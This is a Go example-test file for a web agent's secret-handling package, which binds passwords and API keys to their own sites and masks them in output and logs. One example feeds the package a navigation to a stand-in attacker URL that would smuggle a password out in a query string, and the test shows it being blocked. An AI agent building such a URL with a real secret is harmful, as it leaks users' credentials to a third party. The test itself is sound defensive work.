package secret_test

import (
	"fmt"
	"os"

	"github.com/webagent/webagent/contract"
	"github.com/webagent/webagent/secret"
)

// A Set is a task's secrets as the agent's loop uses them: the model's
// type action gets the value, bound to the secret's origin, and whatever
// comes back shows the placeholder instead.
func ExampleNew() {
	s := secret.New(map[string]string{"pw": "hunter2", "api@https://api.example.com": "k-123456"}, "https://bank.example/login")
	fmt.Println(s.Names())

	a, err := s.Fill(contract.Action{Name: contract.ActType, Ref: "e4", Text: "<secret>pw</secret>"})
	fmt.Println(a.Text, a.Origins, err)

	_, err = s.Fill(contract.Action{Name: contract.ActGoto, URL: "https://evil.example/?p=<secret>pw</secret>"})
	fmt.Println(err)

	fmt.Println(s.Mask(`typed "hunter2", sent as {"key":"k-123456"}`))
	// Output:
	// [api pw]
	// hunter2 [https://bank.example] <nil>
	// the secret pw can only be typed into a field of its own site with type; it is never put into goto
	// typed "<secret>pw</secret>", sent as {"key":"<secret>api</secret>"}
}

// A Masker hides the secrets in text the loop does not write itself: here
// a log, through its Writer.
func ExampleMasker() {
	m := secret.NewMasker(map[string]string{"pw@https://bank.example": "p@ss word!"})
	fmt.Println(m.Mask(`{"password":"p@ss word!"}`))

	log := m.Writer(os.Stdout)
	fmt.Fprintln(log, "POST https://bank.example/login body=user=ann&password=p%40ss+word%21")
	// Output:
	// {"password":"<secret>pw</secret>"}
	// POST https://bank.example/login body=user=ann&password=<secret>pw</secret>
}
